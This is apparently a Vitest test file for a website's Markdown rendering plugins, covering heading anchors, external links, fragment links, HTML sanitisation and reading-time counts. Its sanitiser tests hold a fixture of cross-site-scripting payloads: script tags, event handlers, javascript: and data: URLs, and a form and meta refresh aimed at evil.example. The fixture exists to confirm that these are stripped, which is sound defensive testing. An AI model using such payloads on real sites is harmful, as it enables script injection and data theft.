import { parse, type HTMLElement } from 'node-html-parser';
import { describe, expect, it } from 'vitest';
import { createMarkdownRenderer } from '../../src/plugins/index.ts';
import { isExternalHref } from '../../src/plugins/rehype-external-links.ts';
import { countWords, readingMinutes } from '../../src/plugins/remark-reading-time.ts';

const siteUrl = 'https://example.org';
// The renderer article bodies go through: the project's plugins on a tree parsed by Sätteri.
const renderMarkdown = createMarkdownRenderer(siteUrl);

async function render(
  markdown: string,
): Promise<{ html: string; root: HTMLElement; frontmatter: Record<string, unknown> }> {
  const { html, frontmatter } = await renderMarkdown(markdown);
  return { html, root: parse(html), frontmatter };
}

describe('heading anchors', () => {
  const markdown = [
    '## What the joint statement says',
    '',
    '### Biden: cooperation "taking off"',
    '',
    '#### A *priority* for Kishida',
    '',
    '## Next step',
    '',
    '## Next step',
    '',
    '##### Footnote',
    '',
    '###### Smaller',
  ].join('\n');

  it('gives h2–h4 a slug id behind the user-content- prefix every article id has', async () => {
    const { root } = await render(markdown);
    expect(root.querySelectorAll('h2, h3, h4').map((h) => h.id)).toEqual([
      'user-content-what-the-joint-statement-says',
      'user-content-biden-cooperation-taking-off',
      'user-content-a-priority-for-kishida',
      'user-content-next-step',
      'user-content-next-step-1',
    ]);
  });

  it('never gives a heading an id of the page around the article', async () => {
    // The layout's own ids: the skip link's target and the scheme switch.
    const { root } = await render('## Main\n\n## Scheme dark\n\n# Main\n');
    expect(root.querySelectorAll('h1, h2').map((h) => h.id)).toEqual([
      'user-content-main',
      'user-content-scheme-dark',
      'user-content-main-1',
    ]);
  });

  it('gives a heading of emoji or punctuation alone an id that is not empty', async () => {
    const { root } = await render('## 🚀\n\n## ?!\n\n#\n');
    expect(root.querySelectorAll('h1, h2').map((h) => h.id)).toEqual([
      'user-content-section',
      'user-content-section-1',
      'user-content-section-2',
    ]);
    expect(root.querySelector('h2 a.heading-anchor')?.getAttribute('href')).toBe('#user-content-section');
  });

  it('never repeats an id already in the body: a footnote’s, or one written in raw HTML', async () => {
    const { root } = await render('## fn 1\n\n<p id="background">B</p>\n\n## Background\n\nText.[^1]\n\n[^1]: Note.\n');
    const ids = root.querySelectorAll('[id]').map((element) => element.id);
    expect(new Set(ids).size).toBe(ids.length);
    expect(
      root
        .querySelectorAll('h2')
        .map((h) => h.id)
        .slice(0, 2),
    ).toEqual(['user-content-fn-1-1', 'user-content-background-1']);
  });

  it('keeps an id written twice in raw HTML on its first element only', async () => {
    const { root } = await render('<p id="x">one</p><p id="x">two</p>\n');
    expect(root.querySelectorAll('p').map((p) => p.id)).toEqual(['user-content-x', '']);
  });

  it('adds a "#" link to each h2–h4, pointing at the heading, named after it', async () => {
    const { root } = await render(markdown);
    for (const heading of root.querySelectorAll('h2, h3, h4')) {
      const anchors = heading.querySelectorAll('a.heading-anchor');
      expect(anchors).toHaveLength(1);
      const anchor = anchors[0]!;
      expect(anchor.getAttribute('href')).toBe(`#${heading.id}`);
      expect(anchor.text).toBe('#');
      const headingText = heading.text.slice(0, -1).trim();
      expect(anchor.getAttribute('aria-label')).toBe(`Link to section: ${headingText}`);
    }
    expect(root.querySelector('h4 a.heading-anchor')?.getAttribute('aria-label')).toBe(
      'Link to section: A priority for Kishida',
    );
  });

  it('keeps the heading text and inline markup', async () => {
    const { root } = await render(markdown);
    const h4 = root.querySelector('h4');
    expect(h4?.querySelector('em')?.text).toBe('priority');
    expect(h4?.childNodes[0]?.text).toBe('A ');
  });

  it('adds no link to h1, h5 or h6', async () => {
    const { root } = await render(`# Title\n\n${markdown}`);
    expect(root.querySelectorAll('h1 a, h5 a, h6 a')).toHaveLength(0);
    expect(root.querySelectorAll('a.heading-anchor')).toHaveLength(5);
  });

  it('never gives two headings the same id, across levels', async () => {
    const { root } = await render('# Notes\n\n## Notes\n\n##### Background\n\n## Background\n\n### Notes\n');
    const ids = root.querySelectorAll('h1, h2, h3, h4, h5, h6').map((h) => h.id);
    expect(ids.every((id) => id !== '')).toBe(true);
    expect(new Set(ids).size).toBe(ids.length);
    for (const anchor of root.querySelectorAll('a.heading-anchor')) {
      expect(root.querySelectorAll(`[id="${anchor.getAttribute('href')?.slice(1) ?? ''}"]`)).toHaveLength(1);
    }
  });

  it('starts the numbering again for every document', async () => {
    await render('## Overview\n');
    const { root } = await render('## Overview\n');
    expect(root.querySelector('h2')?.id).toBe('user-content-overview');
  });
});

describe('external links', () => {
  const markdown = [
    '[NASA](https://www.nasa.gov/artemis/)',
    '[home](/)',
    '[article](/articles/2022/biden-kishida-tokyo-summit/)',
    '[relative](../japan/)',
    '[section](#next-step)',
    '[same origin](https://example.org/countries/japan/)',
    '[protocol-relative](//spacenews.com/x)',
    '[http](http://spacenews.com/x)',
  ].join(' ');

  const links = async () => {
    const { root } = await render(markdown);
    return new Map(root.querySelectorAll('p > a').map((a) => [a.childNodes[0]?.text ?? '', a]));
  };

  it('marks links to other sites', async () => {
    const byText = await links();
    for (const text of ['NASA', 'protocol-relative', 'http']) {
      const a = byText.get(text);
      expect(a?.getAttribute('rel'), text).toBe('noopener noreferrer');
      expect(a?.classList.contains('external-link'), text).toBe(true);
      const hidden = a?.querySelector('span.visually-hidden');
      expect(hidden?.text, text).toBe(' (external link)');
    }
  });

  it('keeps the href of an external link as written', async () => {
    expect((await links()).get('NASA')?.getAttribute('href')).toBe('https://www.nasa.gov/artemis/');
  });

  it('leaves internal, relative, fragment and same-origin links alone', async () => {
    const byText = await links();
    for (const text of ['home', 'article', 'relative', 'section', 'same origin']) {
      const a = byText.get(text);
      expect(a, text).toBeDefined();
      expect(a?.getAttribute('rel'), text).toBeUndefined();
      expect(a?.getAttribute('class'), text).toBeUndefined();
      expect(a?.querySelector('span'), text).toBeNull();
      expect(a?.text, text).toBe(text);
    }
  });

  it('also marks external links written as raw HTML', async () => {
    const { root } = await render('<a href="https://www.esa.int/">ESA</a>\n');
    const a = root.querySelector('a');
    expect(a?.getAttribute('rel')).toBe('noopener noreferrer');
    expect(a?.classList.contains('external-link')).toBe(true);
  });

  it('isExternalHref decides by origin', () => {
    expect(isExternalHref('https://www.nasa.gov/', siteUrl)).toBe(true);
    expect(isExternalHref('//www.nasa.gov/', siteUrl)).toBe(true);
    expect(isExternalHref('https://example.org:8443/', siteUrl)).toBe(true);
    expect(isExternalHref('https://example.org/a/', siteUrl)).toBe(false);
    expect(isExternalHref('/a/', siteUrl)).toBe(false);
    expect(isExternalHref('a/b/', siteUrl)).toBe(false);
    expect(isExternalHref('#x', siteUrl)).toBe(false);
    expect(isExternalHref('?page=2', siteUrl)).toBe(false);
  });
});

describe('links inside an article', () => {
  /** Every in-page link of `root` with whether an element of that id exists. */
  const fragmentLinks = (root: HTMLElement) =>
    root.querySelectorAll('a[href^="#"]').map((a) => {
      // As a browser matches a fragment: percent-decoded.
      const target = decodeURIComponent(a.getAttribute('href')!.slice(1));
      return { target, found: root.querySelector(`[id="${target}"]`) !== null };
    });

  it('take footnote references and back-references to their targets', async () => {
    const { root } = await render(
      'The summit agreed.[^1] Later, more.[^later]\n\n[^1]: Joint statement.\n[^later]: A second note.\n',
    );
    const links = fragmentLinks(root);
    expect(links.length).toBeGreaterThanOrEqual(4);
    expect(links.filter((link) => !link.found)).toEqual([]);
    // One prefix, the sanitiser's: `#user-content-fn-1`, not `#user-content-user-content-fn-1`.
    expect(links.map((link) => link.target)).toContain('user-content-fn-1');
    for (const link of links) expect(link.target).not.toMatch(/user-content-user-content-/);
  });

  it('take a link to a section, written with the heading’s slug, to the heading', async () => {
    const { root } = await render('## Next step\n\n## 日本\n\nSee [the next step](#next-step) and [Japan](#日本).\n');
    expect(fragmentLinks(root).filter((link) => !link.found)).toEqual([]);
    expect(root.querySelectorAll('p a').map((a) => a.getAttribute('href'))).toEqual([
      '#user-content-next-step',
      '#user-content-%E6%97%A5%E6%9C%AC',
    ]);
  });

  it('take a raw-HTML link to an id written in the article to its target, which the sanitiser renamed', async () => {
    const { root } = await render('<p id="background">Background.</p>\n\nSee [the background](#background).\n');
    expect(root.querySelector('[id="background"]')).toBeNull();
    expect(fragmentLinks(root)).toEqual([{ target: 'user-content-background', found: true }]);
  });
});

describe('sanitising raw HTML', () => {
  const hostile = [
    'Intro paragraph.',
    '',
    '<script>alert("script")</script>',
    '',
    '<p onclick="alert(\'click\')" onmouseover="alert(2)">Click me</p>',
    '',
    '<img src="https://example.org/a.png" alt="A" onerror="alert(\'img\')">',
    '',
    '<a href="javascript:alert(\'href\')">js link</a> <a href="JaVaScRiPt:alert(1)">mixed case</a> <a href=" javascript:alert(1)">spaced</a>',
    '',
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="data image">',
    '',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
    '',
    '<iframe src="https://evil.example/"></iframe>',
    '',
    '<svg><script>alert("svg")</script><circle r="1"></circle></svg>',
    '',
    '<p style="position:fixed;inset:0">Styled</p>',
    '',
    '<style>body { display: none }</style>',
    '',
    '<form action="https://evil.example/steal" method="post"><button>Send</button></form>',
    '',
    '<object data="x.swf"></object><embed src="x.swf"><link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '',
    '<base href="https://evil.example/">',
  ].join('\n');

  it('drops script, iframe, svg, style, form and other active elements', async () => {
    const { root } = await render(hostile);
    for (const tag of [
      'script',
      'iframe',
      'svg',
      'circle',
      'style',
      'form',
      'button',
      'object',
      'embed',
      'link',
      'meta',
      'base',
    ]) {
      expect(root.querySelectorAll(tag), tag).toHaveLength(0);
    }
  });

  it('drops every event handler and style attribute', async () => {
    const { root } = await render(hostile);
    for (const element of root.querySelectorAll('*')) {
      for (const name of Object.keys(element.attributes)) {
        expect(name.toLowerCase().startsWith('on'), `${element.tagName} ${name}`).toBe(false);
        expect(name.toLowerCase(), element.tagName).not.toBe('style');
      }
    }
  });

  it('drops javascript: and data: URLs', async () => {
    const { root } = await render(hostile);
    for (const element of root.querySelectorAll('[href], [src], [action], [data]')) {
      for (const name of ['href', 'src', 'action', 'data']) {
        const value = element.getAttribute(name)?.trim().toLowerCase() ?? '';
        expect(value.startsWith('javascript:'), `${element.tagName} ${name}=${value}`).toBe(false);
        expect(value.startsWith('data:'), `${element.tagName} ${name}=${value}`).toBe(false);
      }
    }
    expect(root.querySelectorAll('a').map((a) => a.getAttribute('href'))).toEqual([
      undefined,
      undefined,
      undefined,
      undefined,
    ]);
  });

  it('keeps no trace of the hostile code in the output text', async () => {
    const { html } = await render(hostile);
    expect(html).not.toMatch(/alert|javascript:|display: none|evil\.example|onerror|onclick/i);
  });

  it('keeps the harmless content around the hostile parts', async () => {
    const { root } = await render(hostile);
    expect(root.text).toContain('Intro paragraph.');
    expect(root.text).toContain('Click me');
    expect(root.text).toContain('Styled');
    expect(root.querySelector('img[alt="A"]')?.getAttribute('src')).toBe('https://example.org/a.png');
  });

  it('lets harmless HTML through', async () => {
    const { root } = await render(
      [
        'A <em>stressed</em> word, <strong>strong</strong> text and <a href="https://www.nasa.gov/">a link</a>.',
        '',
        '<figure>',
        '<img src="https://example.org/moon.jpg" alt="The Moon">',
        '<figcaption>The Moon, <em>photographed</em> from orbit.</figcaption>',
        '</figure>',
        '',
        '<details><summary>More</summary>Hidden text</details>',
      ].join('\n'),
    );
    expect(root.querySelector('em')?.text).toBe('stressed');
    expect(root.querySelector('strong')?.text).toBe('strong');
    expect(root.querySelector('a')?.getAttribute('href')).toBe('https://www.nasa.gov/');
    const figure = root.querySelector('figure');
    expect(figure?.querySelector('img')?.getAttribute('alt')).toBe('The Moon');
    expect(figure?.querySelector('figcaption')?.text).toBe('The Moon, photographed from orbit.');
    expect(figure?.querySelector('figcaption em')?.text).toBe('photographed');
    expect(root.querySelector('details summary')?.text).toBe('More');
  });

  it('keeps Markdown itself intact: lists, tables, code, blockquotes', async () => {
    const { root } = await render(
      ['- one', '- two', '', '| a | b |', '| - | - |', '| 1 | 2 |', '', '`<script>`', '', '> quoted'].join('\n'),
    );
    expect(root.querySelectorAll('ul li')).toHaveLength(2);
    expect(root.querySelectorAll('table td').map((td) => td.text)).toEqual(['1', '2']);
    expect(root.querySelector('code')?.text).toBe('<script>');
    expect(root.querySelector('blockquote')?.text.trim()).toBe('quoted');
    expect(root.querySelectorAll('script')).toHaveLength(0);
  });

  it('drops a srcset with any candidate that is not an http(s) or relative URL', async () => {
    const { root } = await render(
      [
        '<picture>',
        '<source srcset="https://example.org/a.png 1x, javascript:alert(1) 2x">',
        '<source srcset="/b.png 1x, data:image/svg+xml,x 2x">',
        '<source srcset="&#1;vbscript&colon;msgbox(1)">',
        '<source srcset="https://example.org/a.png 1x, /b.png 2.5x,c.png 300w">',
        '<img src="/c.png" alt="C">',
        '</picture>',
      ].join(''),
    );
    expect(root.querySelectorAll('source[srcset]').map((source) => source.getAttribute('srcset'))).toEqual([
      'https://example.org/a.png 1x, /b.png 2.5x,c.png 300w',
    ]);
    expect(root.toString()).not.toMatch(/javascript|vbscript|data:/i);
  });

  it('drops an action attribute that is not an http(s) or relative URL, on any element', async () => {
    const { root } = await render('<p action="javascript:alert(1)">a</p><div action="https://example.org/">b</div>\n');
    expect(root.querySelector('p')?.getAttribute('action')).toBeUndefined();
    expect(root.querySelector('div')?.getAttribute('action')).toBe('https://example.org/');
  });

  it('sanitises before the other plugins, so hostile headings and links are cleaned too', async () => {
    const { root } = await render('<h2 onclick="alert(1)">Raw <script>alert(2)</script>heading</h2>\n');
    const h2 = root.querySelector('h2');
    expect(h2?.getAttribute('onclick')).toBeUndefined();
    expect(h2?.querySelector('script')).toBeNull();
    expect(h2?.querySelector('a.heading-anchor')?.getAttribute('href')).toBe(`#${h2?.id ?? ''}`);
  });
});

describe('sanitising raw HTML: the keyboard', () => {
  it('drops tabindex and accesskey, which would put article text before the skip link or steal a shortcut', async () => {
    const { root } = await render(
      '<p tabindex="1" accesskey="s">First</p>\n\n<a href="/x/" tabindex="-1" accesskey="h">link</a> <span tabIndex="0">span</span>',
    );
    expect(root.querySelectorAll('[tabindex], [accesskey]')).toEqual([]);
    expect(root.querySelector('a')?.getAttribute('href')).toBe('/x/');
    expect(root.querySelector('p')?.textContent).toBe('First');
  });
});

describe('reading time', () => {
  const sentence = 'The two governments said they aim to conclude an agreement this year.'; // 12 words
  const longDocument = [
    '## Heading with three',
    '',
    ...Array.from({ length: 54 }, () => sentence),
    '',
    '- a list item', // 3 words
  ].join('\n');

  it('counts the words of the whole document', async () => {
    const { frontmatter } = await render(longDocument);
    expect(frontmatter['wordCount']).toBe(3 + 54 * 12 + 3);
  });

  it('gives 3 minutes for about 660 words at 220 words a minute', async () => {
    const { frontmatter } = await render(longDocument);
    expect(frontmatter['readingMinutes']).toBe(3);
  });

  it('gives at least one minute for a short document', async () => {
    const { frontmatter } = await render('Just a few words.');
    expect(frontmatter).toEqual(expect.objectContaining({ wordCount: 4, readingMinutes: 1 }));
    expect((await render('')).frontmatter).toEqual(expect.objectContaining({ wordCount: 0, readingMinutes: 1 }));
  });

  it('does not run the last word of one block into the first of the next', async () => {
    const { frontmatter } = await render(
      '## Summit\n\nTalks ended.\n\n- first\n- second\n\n| a | b |\n| - | - |\n| c | d |\n',
    );
    expect(frontmatter['wordCount']).toBe(9);
  });

  it('does not count the markup of links, emphasis or raw HTML as words', async () => {
    const { frontmatter } = await render(
      'A [link](https://example.org/a/very/long/path) and *emphasis* and <em>html</em> — done.',
    );
    expect(frontmatter['wordCount']).toBe(7);
  });

  it('countWords ignores punctuation-only tokens', () => {
    expect(countWords('Hello — world … !!! -- ...')).toBe(2);
    expect(countWords('  spaced\n\tout   words ')).toBe(3);
    expect(countWords('U.S.–Japan 2022 윤석열 岸田文雄')).toBe(5);
    expect(countWords('')).toBe(0);
    // Japanese has no spaces: some 500 characters read in the time of 220 English words.
    expect(countWords('あ'.repeat(500))).toBe(220);
    // 20 kanji and kana: 8.8 words' time.
    expect(countWords('岸田首相は、日本人の月面着陸を目標に掲げた。')).toBe(9);
    // Korean is spaced like English.
    expect(countWords('한미 우주 협력 확대 약속')).toBe(5);
    expect(countWords('— … ¿? ()')).toBe(0);
  });

  it('readingMinutes rounds to the nearest minute, never below one', () => {
    expect(readingMinutes(0, 220)).toBe(1);
    expect(readingMinutes(100, 220)).toBe(1);
    expect(readingMinutes(329, 220)).toBe(1);
    expect(readingMinutes(330, 220)).toBe(2);
    expect(readingMinutes(660, 220)).toBe(3);
    expect(readingMinutes(2200, 220)).toBe(10);
    expect(readingMinutes(600, 200)).toBe(3);
  });
});
